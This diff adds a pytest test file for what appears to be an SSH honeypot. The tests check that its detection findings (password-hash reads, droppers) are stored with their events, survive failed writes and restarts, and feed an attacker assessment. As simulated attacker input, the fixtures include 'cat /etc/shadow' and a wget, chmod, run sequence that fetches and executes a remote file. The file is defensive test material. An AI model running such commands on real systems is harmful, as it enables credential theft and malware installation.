@@ -1,0 +1,133 @@
+"""Findings reach the evidence with the events that they are of: once, whatever fails on the way, and over a restart."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from mirage.analysis.analyst import Analyst
+from mirage.analysis.rulebook import shipped_rules
+from mirage.analysis.session import Detector
+from mirage.app.analysis import Watcher, assessment_of
+from mirage.app.config import Config
+from mirage.base.clock import SECOND
+from mirage.base.events import ConnectionClosed, ConnectionOpened, Envelope, Event, LineEntered
+from mirage.evidence.api import Evidence, open_evidence
+from mirage.evidence.gallery import GalleryOptions
+from mirage.evidence.sinks import Batch
+from mirage.evidence.sinks.database import DatabaseSink
+from mirage.journal.reader import JournalReader, Record
+from tests.unit.evidence.samples import SESSION, envelopes, journal, one_of_each
+
+DETECTOR = Detector(Analyst(shipped_rules()))
+OPENED = ConnectionOpened(protocol="ssh", source_ip="192.0.2.77", source_port=1, local_ip="198.51.100.2", local_port=22)
+
+
+def typed(*texts: str) -> list[tuple[float, Event]]:
+    return [
+        (float(at), LineEntered(text=text.encode("utf-8", "surrogateescape"), mode="terminal")) for at, text in enumerate(texts, 1)
+    ]
+
+
+def written(options: GalleryOptions, happened: list[tuple[float, Event]]) -> list[Record]:
+    journal(options.journal, envelopes(happened))
+    reader = JournalReader(options.journal)
+    records = reader.read()
+    reader.close()
+    return records
+
+
+def sink_of(options: GalleryOptions) -> DatabaseSink:
+    sink = DatabaseSink(options.url, lambda: Watcher(DETECTOR))
+    sink.open_now()
+    return sink
+
+
+def found(options: GalleryOptions) -> list[tuple[str, str]]:
+    """(severity, rule) of the alerts in the evidence."""
+    evidence = open_evidence(options, catch_up_first=False)
+    rows = evidence.findings(session=SESSION)
+    evidence.close()
+    return [(row.severity, row.rule) for row in rows if row.severity not in ("info", "low")]
+
+
+@pytest.fixture
+def options(tmp_path: Path) -> GalleryOptions:
+    return GalleryOptions(url=f"sqlite:///{tmp_path}/evidence.sqlite", journal=tmp_path / "journal", home=tmp_path)
+
+
+def test_findings_are_stored_with_their_events(options: GalleryOptions) -> None:
+    records = written(options, [(0.0, OPENED), *typed("uptime; cat /etc/shadow")])
+    sink = sink_of(options)
+    sink.write_now(Batch(records, {}))
+    sink.write_now(Batch(records, {}))
+    sink.close_now()
+    evidence = Evidence(options)
+    (row,) = [row for row in evidence.session(SESSION).findings if row.severity == "high"]
+    assert (row.id, row.rule, row.techniques, row.matched) == (
+        records[1].id,
+        "password-hashes-read",
+        ["T1003.008"],
+        "cat /etc/shadow",
+    )
+    evidence.close()
+
+
+def test_a_batch_that_fails_and_comes_again_loses_no_finding(options: GalleryOptions, monkeypatch: pytest.MonkeyPatch) -> None:
+    records = written(options, [(0.0, OPENED), *typed("wget http://192.0.2.5/k", "chmod +x k", "./k")])
+    sink = sink_of(options)
+    with monkeypatch.context() as broken:
+        broken.setattr("mirage.evidence.sinks.database._Transaction.store", _refuse)
+        with pytest.raises(Exception, match="disk full"):
+            sink.write_now(Batch(records, {}))
+    sink.write_now(Batch(records, {}))
+    sink.close_now()
+    assert ("high", "dropper") in found(options)
+
+
+def _refuse(*_: object) -> None:
+    raise OSError("disk full")
+
+
+def test_a_session_is_followed_over_a_restart(options: GalleryOptions) -> None:
+    records = written(options, [(0.0, OPENED), *typed("wget http://192.0.2.5/k", "chmod +x k", "./k")])
+    for part in (records[:3], records[3:]):
+        sink = sink_of(options)
+        sink.write_now(Batch(part, {}))
+        sink.close_now()
+    assert ("high", "dropper") in found(options)
+
+
+def test_what_no_text_holds_is_stored_all_the_same(options: GalleryOptions) -> None:
+    records = written(options, [(0.0, OPENED), *typed("cat /etc/shadow '\udcff\x00'", "#!\udcff\n\udcff -c 'cat /etc/shadow'")])
+    sink = sink_of(options)
+    sink.write_now(Batch(records, {}))
+    sink.close_now()
+    assert set(found(options)) == {("high", "password-hashes-read")}
+    evidence = Evidence(options)
+    assert evidence.counts()["rejected"] == 0
+    evidence.close()
+
+
+def test_no_event_of_the_catalogue_is_too_much(options: GalleryOptions) -> None:
+    watcher = Watcher(DETECTOR)
+    for number, event in enumerate(one_of_each()):
+        watcher.examine(Envelope(id=str(number), time=number * SECOND, event=event, session="s", source="192.0.2.1"))
+
+
+def test_sessions_that_are_over_are_forgotten() -> None:
+    watcher = Watcher(DETECTOR)
+    for event in (OPENED, ConnectionClosed(reason="bye", duration=1)):
+        watcher.examine(Envelope(id="1", time=1, event=event, session="s"))
+    assert not watcher.knows("s")
+
+
+def test_an_assessment_is_made_of_stored_events() -> None:
+    happened = envelopes([(0.0, OPENED), *typed("cat /etc/shadow"), (5.0, ConnectionClosed(reason="bye", duration=1))])
+    judged = assessment_of(Config(), happened)
+    assert (judged.is_final, judged.skill, [phase.tactic for phase in judged.phases]) == (
+        True,
+        "script kiddie",
+        ["credential-access"],
+    )
